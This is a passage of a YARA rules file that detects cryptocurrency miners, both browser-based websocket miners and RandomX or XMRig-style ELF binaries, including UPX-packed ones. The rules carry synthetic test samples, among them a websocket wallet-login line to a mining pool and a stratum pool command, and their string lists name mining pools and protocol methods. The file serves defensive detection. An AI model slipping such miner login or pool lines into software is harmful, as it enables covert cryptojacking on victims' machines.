    positive2 = "ws.send(JSON.stringify({\"method\":\"login\",\"params\":{\"login\":wallet,\"pass\":\"x\",\"agent\":\"webminer/1.0\"},\"id\":1}));"
  strings:
    $q1 = /['"]method['"]\s*:\s*['"]mining\.subscribe['"]/
    $q2 = /['"]method['"]\s*:\s*['"]mining\.authorize['"]/
    $q3 = /['"]method['"]\s*:\s*['"]mining\.submit['"]/
    $q4 = /['"]method['"]\s*:\s*['"]mining\.extranonce\.subscribe['"]/
    $l1 = /['"]method['"]\s*:\s*['"]login['"]/
    $l2 = /['"]pass['"]\s*:/
    $l3 = /['"]agent['"]\s*:/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 5MB
    and (2 of ($q*) or all of ($l*))
}

rule miner_randomx_stratum_binary
{
  meta:
    id = "miner/randomx-stratum"
    family = "randomx"
    severity = "high"
    description = "An executable that links the RandomX proof-of-work library (API names or the RandomX Argon2 salt) and also carries stratum client strings: a Monero CPU miner, whatever its name."
    references = "https://github.com/tevador/RandomX https://github.com/tevador/RandomX/blob/master/src/randomx.h"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00randomx_init_cache\x00randomx_create_vm\x00randomx_calculate_hash\x00RandomX\x03\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00randomx_init_cache\x00randomx_create_vm\x00RandomX\x03\x00get_block_template\x00"
  strings:
    $r1 = "randomx_init_cache"
    $r2 = "randomx_alloc_cache"
    $r3 = "randomx_create_vm"
    $r4 = "randomx_calculate_hash"
    $r5 = "randomx_alloc_dataset"
    $r6 = "randomx_init_dataset"
    $r7 = { 52 61 6E 64 6F 6D 58 03 }
    $s1 = "stratum+tcp://"
    $s2 = "stratum+ssl://"
    $s3 = "mining.subscribe"
    $s4 = "mining.submit"
    $s5 = /"method"\s?:\s?"(login|submit)"/
    $s6 = "keepalived"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and 2 of ($r*) and 1 of ($s*)
}

// ---------------------------------------------------------------------------------------
// UPX
// ---------------------------------------------------------------------------------------

rule packer_upx_elf
{
  meta:
    id = "packer/upx-elf"
    family = "upx"
    severity = "low"
    description = "An ELF executable packed with UPX (the UPX! header right after the program headers plus its trailer or banner). Legitimate tools are sometimes UPX-packed; most Linux miners are too."
    references = "https://upx.github.io https://github.com/upx/upx"
    positive = "\x7fELF\x02\x01\x01\x03\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xad\xe3\xfa\x95UPX!\x18\x0e\x00\x00\x00\x00$Info: This file is packed with the UPX executable packer http://upx.sf.net $\x00$Id: UPX 4.02 Copyright (C) 1996-2023 the UPX Team. All Rights Reserved. $\x00UPX!"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00usage: upx [-123456789dlthVL] file..\x00"
  strings:
    $upx = "UPX!"
    $info = "$Info: This file is packed with the UPX"
    $id = "$Id: UPX "
  condition:
    uint32(0) == 0x464c457f
    and $upx in (0..1024)
    and (#upx >= 2 or $info or $id)
}

rule miner_upx_packed_elf
{
  meta:
    id = "miner/upx-packed-miner"
    family = "upx"
    severity = "high"
    description = "A UPX-packed ELF that still shows mining traits outside the compressed data: a stratum URL or method, a well-known pool name or an XMRig option string."
    references = "https://upx.github.io https://xmrig.com/docs/miner/command-line-options"
    positive = "\x7fELF\x02\x01\x01\x03\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00\xad\xe3\xfa\x95UPX!\x18\x0e\x00\x00$Info: This file is packed with the UPX executable packer http://upx.sf.net $\x00-o stratum+tcp://pool.supportxmr.com:3333\x00UPX!"
    negative = "\x7fELF\x02\x01\x01\x03\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00\xad\xe3\xfa\x95UPX!\x18\x0e\x00\x00$Info: This file is packed with the UPX executable packer http://upx.sf.net $\x00--help\x00UPX!"
  strings:
    $upx = "UPX!"
    $info = "$Info: This file is packed with the UPX"
    $id = "$Id: UPX "
    $m1 = "stratum+tcp" nocase
    $m2 = "stratum+ssl" nocase
    $m3 = "mining.subscribe"
    $m4 = "mining.authorize"
    $m5 = "donate-level"
    $m6 = "xmrig" nocase
    $m7 = "supportxmr" nocase
    $m8 = "moneroocean" nocase
    $m9 = "nanopool" nocase
    $m10 = "c3pool" nocase
    $m11 = "hashvault" nocase
    $m12 = "minexmr" nocase
    $m13 = "herominers" nocase
    $m14 = "unmineable" nocase
    $m15 = "cryptonight" nocase
  condition:
    uint32(0) == 0x464c457f
    and $upx in (0..1024)
    and (#upx >= 2 or $info or $id)
    and 1 of ($m*)
}
